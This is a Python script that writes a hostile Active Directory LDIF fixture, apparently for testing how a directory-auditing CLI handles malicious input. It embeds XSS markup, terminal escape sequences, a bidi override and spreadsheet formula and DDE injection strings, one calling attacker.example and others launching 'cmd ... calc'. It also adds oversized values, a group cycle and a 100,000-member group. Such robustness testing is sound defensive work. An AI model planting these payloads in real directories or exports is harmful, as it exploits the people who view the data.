#!/usr/bin/env python3
"""Writes a hostile variant of the lab export (fixtures/lab/domain.ldif) for tests/cli/hostile.sh.

Everything an attacker who controls a directory object can put in names and values:
  * a domain admin whose cn, name, sAMAccountName, description and SPN carry terminal escapes (CSI clear
    screen, OSC window title, C1 CSI), a bidi override, HTML/script markup, spreadsheet formula prefixes,
    a NUL byte and invalid UTF-8 -- and a 10 MB description;
  * a nesting cycle of two groups inside Domain Admins;
  * a 100,000-member group (members are real user entries).
The admin is a copy of the lab's adm-sql (real security descriptor and replication metadata) with a new
GUID, SID and names, so the privileged-SPN and membership checks report it by its hostile name.

Usage: hostile_ldif.py LAB_DOMAIN_LDIF OUT_LDIF [MEMBERS]
"""
import base64
import re
import struct
import sys
import uuid

src, out = sys.argv[1], sys.argv[2]
members = int(sys.argv[3]) if len(sys.argv) > 3 else 100_000
text = open(src, encoding="utf-8").read()
base = "DC=lab,DC=adpersist,DC=test"
users = "CN=Users," + base

HOSTILE = ("evil\x1b[2J\x1b]0;owned\x07\xc2\x9b31m\u202etxt.exe<script>alert(1)</script>"
           "\"><img src=x onerror=alert(1)>").encode("utf-8") + b"\x00nul\xff\xfe"
FORMULA = b"=HYPERLINK(\"http://attacker.example/\"&A1)"


def b64(raw):
    return base64.b64encode(raw).decode("ascii")


def sid_bytes(domain_sid, rid):
    parts = [int(p) for p in domain_sid.split("-")[2:]]
    rev, auth, subs = 1, parts[0], parts[1:] + [rid]
    return struct.pack("<BB", rev, len(subs)) + auth.to_bytes(6, "big") + b"".join(struct.pack("<I", s) for s in subs)


domain_sid_b64 = re.search(r"^dn: " + re.escape(base) + r"\n(?:.*\n)*?objectSid:: (\S+)", text, re.M).group(1)
raw = base64.b64decode(domain_sid_b64)
count = raw[1]
domain_sid = "S-1-%d-" % int.from_bytes(raw[2:8], "big") + "-".join(
    str(struct.unpack("<I", raw[8 + 4 * i:12 + 4 * i])[0]) for i in range(count))

# 1. The hostile domain admin: adm-sql's entry with new identity and names.
adm = re.search(r"^dn: CN=adm-sql," + re.escape(users) + r"\n(?:.+\n)+", text, re.M).group(0)
evil_dn = ("CN=" + "evil-admin\\3Cscript\\3E," + users)
lines = []
for line in adm.splitlines():
    key = line.split(":", 1)[0]
    if key in ("dn", "cn", "name", "sAMAccountName", "userPrincipalName", "distinguishedName", "objectGUID",
               "objectSid", "servicePrincipalName", "description"):
        continue
    lines.append(line)
lines[0:0] = ["dn: " + evil_dn]
lines += [
    "cn:: " + b64(HOSTILE),
    "name:: " + b64(HOSTILE),
    "sAMAccountName:: " + b64(FORMULA),
    "userPrincipalName:: " + b64(b"+cmd|' /C calc'!A0@lab.adpersist.test"),
    "distinguishedName: " + evil_dn,
    "objectGUID:: " + b64(uuid.UUID("0badc0de-0000-4000-8000-000000000001").bytes_le),
    "objectSid:: " + b64(sid_bytes(domain_sid, 9001)),
    "servicePrincipalName:: " + b64(b"@SUM(1+1)*cmd|' /C calc'!A0/" + HOSTILE),
    "description:: " + b64(b"-" + HOSTILE + b"A" * (10 * 1024 * 1024)),
]
evil = "\n".join(lines) + "\n\n"

# 2. Domain Admins gains the admin and the first group of a nesting cycle G1 -> G2 -> G1.
g1, g2 = "CN=cycle-one," + users, "CN=cycle-two," + users
da = re.search(r"^dn: CN=Domain Admins," + re.escape(users) + r"\n", text, re.M)
text = text[:da.end()] + "member: %s\nmember: %s\n" % (evil_dn, g1) + text[da.end():]


def group(dn, name, rid, member_dns):
    body = ["dn: " + dn, "objectClass: top", "objectClass: group", "cn: " + name, "name: " + name,
            "sAMAccountName: " + name, "groupType: -2147483646",
            "objectGUID:: " + b64(uuid.uuid5(uuid.NAMESPACE_URL, dn).bytes_le),
            "objectSid:: " + b64(sid_bytes(domain_sid, rid))]
    body += ["member: " + m for m in member_dns]
    return "\n".join(body) + "\n\n"


extra = [evil, group(g1, "cycle-one", 9002, [g2]), group(g2, "cycle-two", 9003, [g1])]

# 3. A 100,000-member group of plain users (not privileged: it must cost time linear in its size only).
big_members = []
for i in range(members):
    dn = "CN=bulk%06d,%s" % (i, users)
    big_members.append(dn)
    extra.append("dn: %s\nobjectClass: top\nobjectClass: person\nobjectClass: organizationalPerson\n"
                 "objectClass: user\ncn: bulk%06d\nsAMAccountName: bulk%06d\nuserAccountControl: 512\n"
                 "objectGUID:: %s\nobjectSid:: %s\n\n"
                 % (dn, i, i, b64(uuid.uuid5(uuid.NAMESPACE_URL, dn).bytes_le), b64(sid_bytes(domain_sid, 100000 + i))))
extra.append(group("CN=everyone-bulk," + users, "everyone-bulk", 9004, big_members))

# ldapsearch's trailer counts the entries it sent: the added ones would make the export "incomplete".
text = re.sub(r"^# (numResponses|numEntries): \d+\n", "", text, flags=re.M)
if not text.endswith("\n\n"):
    text = text.rstrip("\n") + "\n\n"
with open(out, "w", encoding="utf-8") as f:
    f.write(text)
    f.writelines(extra)
